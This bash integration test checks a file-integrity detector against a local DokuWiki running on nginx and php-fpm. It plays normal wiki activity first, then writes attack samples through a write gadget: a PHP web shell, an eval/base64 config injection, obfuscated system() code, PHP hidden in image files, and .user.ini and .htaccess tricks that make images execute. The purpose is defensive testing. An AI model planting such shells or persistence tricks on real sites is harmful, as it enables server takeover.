#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-or-later
# A real application as a hoster runs it: Debian's DokuWiki in a watched
# webspace, served by Debian's nginx and php-fpm (a pool running as the
# customer's uid) on 127.0.0.1, driven over HTTP through its installer and its
# normal visitor and admin actions (page views, login, page edits, a media
# upload, settings saved, a bundled plugin disabled and enabled again in the
# extension manager, a registration). That churn raises nothing above info.
# Then the attacks a compromised application writes through its php-fpm pool:
# each is raised (malicious or suspicious, critical, the pool named as writer).
. "$(dirname "$0")/../lib/lib.sh"
. "$WSID_TOP/tests/lib/webstack.sh"
need_root
if ! webstack_have; then
	echo "# nginx or php-fpm missing (scripts/deps.sh test installs them)"
	fail "web stack installed"; t_done; exit 1
fi
D=$T_TMP
chmod 711 "$D" # nginx's workers (www-data) and the pool (the customer) pass through
mount_tmpfs "$D/m" 512m
DW=$(fixture_tree dokuwiki) || { fail "fixture dokuwiki"; t_done; exit 1; }
X=$FIXTURE_CACHE/x-dokuwiki
PY=/usr/bin/python3
CUID=2001 # the customer's uid: the files' owner and its php-fpm pool's user
PORT=$(webstack_free_port)
B=http://127.0.0.1:$PORT
W=$D/m/vhosts/alice/httpdocs

# -- the release, laid out as upstream's archive: Debian's code, its
#    configuration as conf/ (Debian's own preload.php, which points at /etc,
#    and the files the installer writes left out) and its data/ with savedir
#    ./data
R=$D/release
mkdir -p "$R/conf"
cp -a "$DW/." "$R/" && rm -f "$R/.complete" "$R/inc/preload.php"
cp -rL "$X/etc/dokuwiki/." "$R/conf/" 2>/dev/null
find "$R/conf" -type l -delete
rm -f "$R/conf/plugins.local.php" "$R/conf/users.auth.php" "$R/conf/acl.auth.php"
sed -i "s|^\$conf\['savedir'\].*|\$conf['savedir'] = './data';|" "$R/conf/dokuwiki.php"
cp -a "$X/var/lib/dokuwiki/data" "$R/data"
# the index: the shipped product sets (DokuWiki's product.yaml names its data
# dirs) and this release ingested
mkdir -p "$D/fp" "$D/db"
cp -a "$WSID_TOP/fingerprints/dokuwiki" "$D/fp/"
VER=$(sed -n 's/^\([0-9-]*[a-z]\?\) .*/\1/p' "$R/VERSION")
"$WSIDCTL" --db "$D/db/wsid.db" index ingest --product dokuwiki --version "$VER" --out "$D/fp" "$R" >/dev/null ||
	{ fail "ingest the release"; t_done; exit 1; }
check "the ingested product carries its upload dirs" bash -c "sqlite3 '$D/db/wsid.db' \"SELECT upload_dirs FROM products WHERE name='dokuwiki'\" | grep -q 'data/media'"

mkdir -p "$W"
cp -a "$R/." "$W/"
chown -R "$CUID:$CUID" "$D/m/vhosts"
chmod 755 "$D/m" "$D/m/vhosts"

# the stand-in for an exploited application: a script outside the webspace,
# run by the customer's pool, that writes what it is sent
mkdir -p "$D/gadget"
cat > "$D/gadget/write.php" <<'PHP'
<?php
$p = $_SERVER['DOCUMENT_ROOT'] . '/' . $_POST['path'];
@mkdir(dirname($p), 0755, true);
$n = file_put_contents($p, base64_decode($_POST['data']), $_POST['mode'] === 'append' ? FILE_APPEND : 0);
echo $n === false ? "failed\n" : "wrote $n\n";
PHP
chmod 755 "$D/gadget" && chmod 644 "$D/gadget/write.php"
WEBSTACK_GADGET=$D/gadget/write.php
webstack_site alice "$CUID" "$W" "$PORT"
webstack_start "$D/web" || { fail "nginx and php-fpm start"; t_done; exit 1; }
pass "nginx and php-fpm (pool alice as uid $CUID) on 127.0.0.1:$PORT"

start_receivers "$D" hook
HP=$(cat "$D/hook.port")
daemon_config "$D" \
	"classify:" "  update_window: 1s" \
	"customers:" "  alice:" "    webhook: {url: 'http://127.0.0.1:$HP/hook', secret: s3cret}"
echo "# ${SECONDS}s: release ingested, stack up; the daemon's baseline"
daemon_start "$D" || { fail "daemon start"; t_done; exit 1; }
echo "# ${SECONDS}s: baseline done"
check_eq "baseline: DokuWiki identified" "dokuwiki $VER" \
	"$("$WSIDCTL" --db "$D/db/wsid.db" sites --json 2>/dev/null | $PY -c 'import json,sys
t = sys.stdin.read().strip()
try: v = json.loads(t)
except ValueError: v = [json.loads(l) for l in t.splitlines() if l.strip()]
v = v if isinstance(v, list) else v.get("sites", v.get("installations", [v]))
for i in v: print(i.get("product"), i.get("version"))' | head -1)"

raised() { # events above info for alice since event id $1, one line each
	events_json "$D" | $PY -c 'import json,sys
for l in sys.stdin:
    e = json.loads(l)
    if e["id"] > int(sys.argv[1]) and e["severity"] in ("warning", "critical"):
        print(e["path"], e["verdict"], e["severity"], e["reason"][:160])' "$1"
}
lastid() { events_json "$D" | $PY -c 'import json,sys; print(max([json.loads(l)["id"] for l in sys.stdin] or [0]))'; }
check_eq "baseline: nothing above info" "" "$(raised 0)"
E0=$(lastid)

# ---- the churn: what visitors and the admin do, over HTTP ----
J=$D/admin.jar
J2=$D/visitor.jar
http() { curl -s -o "$D/last.html" -w '%{http_code}' "$@"; }
sectok() { curl -s -b "$J" -c "$J" "$B/doku.php?id=$1&do=$2" | grep -o 'name="sectok" value="[^"]*"' | head -1 | sed 's/.*value="//;s/"$//'; }
# formpost PAGE FORM URL [NAME=VALUE...]: submits a form as a browser would
formpost() {
	local page=$1 form=$2 url=$3 a=() kv
	shift 3
	while IFS= read -r -d '' kv; do a+=(--data-urlencode "$kv"); done < <($PY "$WSID_TOP/tests/lib/htmlform.py" "$page" "$form" "$@")
	http -b "$J" -c "$J" "${a[@]}" "$url"
}
check_eq "install.php answers" 200 "$(http "$B/install.php")"
check_eq "installer: the superuser, ACL and open registration saved" 200 "$(http -X POST "$B/install.php" \
	--data-urlencode l=en --data-urlencode 'd[title]=Test Wiki' --data-urlencode 'd[acl]=on' \
	--data-urlencode 'd[superuser]=admin' --data-urlencode 'd[fullname]=Wiki Admin' \
	--data-urlencode 'd[email]=admin@example.com' --data-urlencode 'd[password]=Adm1n-Pass' \
	--data-urlencode 'd[confirm]=Adm1n-Pass' --data-urlencode 'd[policy]=1' --data-urlencode 'd[allowreg]=on' \
	--data-urlencode 'd[license]=cc-by-sa' --data-urlencode submit=Save)"
check "installer wrote conf/local.php and conf/users.auth.php (as the pool's uid)" \
	bash -c "[ \"\$(stat -c %u '$W/conf/local.php')\" = $CUID ] && grep -q '^admin:' '$W/conf/users.auth.php'"
for p in "doku.php" "doku.php?id=wiki:syntax" "doku.php?id=start&do=index" "doku.php?id=start&do=recent" \
	"feed.php" "lib/exe/css.php" "lib/exe/js.php" "lib/exe/indexer.php?id=wiki:syntax" \
	"doku.php?id=wiki:dokuwiki&do=export_raw" "lib/exe/fetch.php?media=wiki:dokuwiki-128.png"; do
	check_eq "visitor: GET /$p" 200 "$(http -b "$J2" -c "$J2" "$B/$p")"
done
check_eq "admin: login" 302 "$(http -b "$J" -c "$J" -X POST "$B/doku.php?id=start" --data-urlencode do=login \
	--data-urlencode u=admin --data-urlencode p=Adm1n-Pass --data-urlencode id=start)"
check "admin: logged in" bash -c "curl -s -b '$J' '$B/doku.php?id=start' | grep -q 'Logged in as'"
for n in 1 2 3; do
	curl -s -b "$J" -c "$J" "$B/doku.php?id=playground:page$n&do=edit" > "$D/edit.html"
	check_eq "admin: page edit $n saved" 302 "$(formpost "$D/edit.html" dw__editform "$B/doku.php" \
		"wikitext======= Page $n ======
Written over HTTP, revision $n, with a [[wiki:syntax|link]] and {{wiki:dokuwiki-128.png}}." \
		"summary=edit $n" "do[save]=1")"
done
curl -s -b "$J" -c "$J" "$B/doku.php?id=playground:page1&do=edit" > "$D/edit.html"
check_eq "admin: page 1 edited again" 302 "$(formpost "$D/edit.html" dw__editform "$B/doku.php" \
	"wikitext======= Page 1 ======
Second revision." "summary=again" "do[save]=1")"
check "the pages are on disk" test -f "$W/data/pages/playground/page3.txt" -a -d "$W/data/attic/playground"
$PY - "$D/logo.png" <<'PY'
import struct, sys, zlib
def chunk(t, d): return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
raw = b"".join(b"\0" + bytes((x * 7 + y * 3) % 256 for x in range(48)) for y in range(16))
open(sys.argv[1], "wb").write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0)) +
                              chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
PY
check_eq "admin: media upload (an image) into wiki:" 200 "$(http -b "$J" -c "$J" -F "sectok=$(sectok wiki:start media)" \
	-F "upload=@$D/logo.png;type=image/png" -F mediaid=logo.png -F ns=wiki "$B/lib/exe/mediamanager.php?ns=wiki")"
check "the image is in data/media/wiki" cmp -s "$D/logo.png" "$W/data/media/wiki/logo.png"
check_eq "the image is served" 200 "$(http "$B/lib/exe/fetch.php?media=wiki:logo.png")"
curl -s -b "$J" -c "$J" "$B/doku.php?id=start&do=admin&page=config" > "$D/config.html"
check_eq "admin: settings saved (title, no generated passwords)" 302 "$(formpost "$D/config.html" dw__configform "$B/doku.php" \
	"config[title]=The test wiki" "config[autopasswd]=")"
check "settings: conf/local.php rewritten" grep -q "The test wiki" "$W/conf/local.php"
for fn in disable enable; do
	curl -s -b "$J" -c "$J" "$B/doku.php?id=start&do=admin&page=extension" > "$D/ext.html"
	check_eq "extension manager: $fn the bundled popularity plugin" 302 \
		"$(formpost "$D/ext.html" extension__list "$B/doku.php?id=start&do=admin&page=extension&tab=plugins" "fn[$fn][popularity]=1")"
done
check "extension manager: conf/plugins.local.php and its .bak written" test -f "$W/conf/plugins.local.php.bak"
curl -s -b "$J2" -c "$J2" "$B/doku.php?id=start&do=register" > "$D/reg.html"
formpost_v() { local a=() kv; while IFS= read -r -d '' kv; do a+=(--data-urlencode "$kv"); done < <($PY "$WSID_TOP/tests/lib/htmlform.py" "$@"); http -b "$J2" -c "$J2" "${a[@]}" "$B/doku.php?id=start&do=register"; }
formpost_v "$D/reg.html" dw__register login=visitor1 "fullname=A Visitor" email=visitor1@example.com pass=Visit0r-Pass passchk=Visit0r-Pass >/dev/null
check "visitor: registered" grep -q '^visitor1:' "$W/conf/users.auth.php"
check_eq "visitor: login" 302 "$(http -b "$J2" -c "$J2" -X POST "$B/doku.php?id=start" --data-urlencode do=login \
	--data-urlencode u=visitor1 --data-urlencode p=Visit0r-Pass --data-urlencode id=start)"
for p in "doku.php?id=playground:page1" "doku.php?id=playground:page1&do=revisions" "doku.php?id=playground:page2&do=diff" \
	"doku.php?do=search&q=revision" "lib/exe/indexer.php?id=playground:page2"; do
	check_eq "visitor: GET /$p" 200 "$(http -b "$J2" -c "$J2" "$B/$p")"
done
check_eq "admin: logout" 302 "$(http -b "$J" -c "$J" "$B/doku.php?id=start&do=logout&sectok=$(sectok start show)")"
check "no PHP error in the pool's log" bash -c "! grep -qi 'fatal' '$D/web/php-alice.err' 2>/dev/null"
wsync "$D"
sleep 2 # the update window (1s) of anything held closes
wsync "$D"
written=$(find "$W" -newer "$D/logo.png" -type f | wc -l)
check "the churn wrote files in the webspace ($written)" test "$written" -ge 20
check_eq "the churn: zero events above info" "" "$(raised "$E0")"
check "the churn: the pool's writes were seen and attributed" bash -c "[ \"\$(sqlite3 '$D/db/wsid.db' \"SELECT count(*) FROM events WHERE comm LIKE 'php-fpm%'\")\" -ge 1 ]"

# ---- the attacks, written through the customer's php-fpm pool ----
echo "# ${SECONDS}s: churn done"
E1=$(lastid)
gadget() { # gadget PATH MODE (reads the content on stdin)
	curl -s -o /dev/null -w '%{http_code}' --data-urlencode "path=$1" --data-urlencode "mode=$2" \
		--data-urlencode "data=$(base64 -w0)" "$B/__gadget"
}
attack() { # attack NAME PATH MODE: write, then wait for its event
	local name=$1 path=$2 mode=$3 code
	code=$(gadget "$path" "$mode")
	[ "$code" = 200 ] || fail "$name: the pool's write answered $code"
	# the event comes at once (the analysis takes a moment): at most 10 s
	for _ in $(seq 1 100); do
		[ "$(sqlite3 "$D/db/wsid.db" "SELECT count(*) FROM events WHERE id > $E1 AND CAST(path AS TEXT) = '$path'")" != 0 ] && break
		sleep 0.1
	done
	wsync "$D"
}
# verdict, severity and the writer (command, uid) of the last event of a path
vsw() {
	events_json "$D" | $PY -c 'import json,sys
m = [e for e in map(json.loads, sys.stdin) if e["path"].endswith("/" + sys.argv[1])]
w = m[-1]["writer"] or {} if m else {}
print(" ".join(str(x) for x in (m[-1]["verdict"], m[-1]["severity"], w.get("comm"), w.get("uid"))) if m else "")' "$1"
}
CRIT="critical php-fpm8.2 $CUID"

printf '<?php\nif (isset($_REQUEST["c"])) { echo "<pre>"; passthru($_REQUEST["c"]); }\n' | attack "shell" data/media/wiki/thumb.php write
check_eq "a shell posted into data/media: malicious, critical, the pool named" "malicious $CRIT" "$(vsw data/media/wiki/thumb.php)"

printf '\n@eval(base64_decode("ZWNobyAnb2snOw==") . $_COOKIE["k"]);\n' | attack "conf" conf/local.php append
check_eq "an eval/base64 line injected into conf/local.php: malicious, critical" "malicious $CRIT" "$(vsw conf/local.php)"

printf '<?php\n/* cache helper */\n$f = $_POST["f"];\n$d = $_POST["d"];\nfile_put_contents($f, $d);\n$g = "sys" . "tem";\n$g($_POST["x"]);\n' | attack "innocent name" inc/cache-helper.php write
v=$(vsw inc/cache-helper.php)
check "a new innocently named PHP file among the application's files: raised, critical ($v)" \
	bash -c "[ '$v' = 'malicious $CRIT' ] || [ '$v' = 'suspicious $CRIT' ]"

{ printf '\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\x02\0\0\0\x90\x91h6'; printf '<?php system($_GET["c"]); ?>'; } | attack "png" data/media/wiki/banner.png write
check_eq "PHP after a PNG header (an upload): malicious, critical" "malicious $CRIT" "$(vsw data/media/wiki/banner.png)"

{ printf '\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0'; printf '<?php if (isset($_GET["wsidt"])) { echo "prepended:" . trim(shell_exec("id -u")); } ?>'; } | attack "jpg" data/media/wiki/photo.jpg write
check_eq "an uploaded .jpg holding PHP: malicious, critical" "malicious $CRIT" "$(vsw data/media/wiki/photo.jpg)"
printf 'auto_prepend_file = "%s/data/media/wiki/photo.jpg"\n' "$W" | attack "user.ini" .user.ini write
check_eq "a .user.ini auto_prepend_file pointing at it: malicious, critical" "malicious $CRIT" "$(vsw .user.ini)"
sleep 1.5 # user_ini.cache_ttl
check "... and php-fpm really runs the .jpg on every request (as the customer)" \
	bash -c "curl -s '$B/doku.php?wsidt=1' | grep -q 'prepended:$CUID'"

printf 'AddType application/x-httpd-php .jpg .png\n<FilesMatch "\\.(jpg|png)$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n' | attack "htaccess" data/media/.htaccess write
check_eq "an .htaccess making .jpg executable: malicious, critical" "malicious $CRIT" "$(vsw data/media/.htaccess)"

check "the webhook carried the attacks" bash -c "grep -c 'thumb.php\|banner.png\|photo.jpg\|user.ini' '$D/hook.log' | grep -qv '^0$'"
echo "# ${SECONDS}s: attacks done; events above info after them:"
raised "$E1" | sed 's/^/#   /'

pids="$WEBSTACK_NGINX_PID $WEBSTACK_FPM_PID"
webstack_stop
check "nginx and php-fpm stopped (by pid)" bash -c "for p in $pids; do kill -0 \$p 2>/dev/null && exit 1; done; exit 0"
daemon_stop
t_done
